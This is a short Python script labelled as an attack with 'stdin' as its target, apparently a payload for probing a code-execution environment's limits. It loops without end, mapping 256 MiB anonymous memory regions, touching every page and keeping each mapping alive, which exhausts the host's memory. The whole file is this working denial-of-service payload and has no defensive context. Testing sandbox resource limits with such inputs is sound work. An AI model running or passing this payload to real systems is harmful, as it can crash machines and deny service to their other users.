# target: stdin
# attack: anonymous mmap of huge regions, touched page by page
import mmap
maps = []
while True:
    region = mmap.mmap(-1, 256 << 20)
    for offset in range(0, len(region), 4096):
        region[offset] = 1
    maps.append(region)
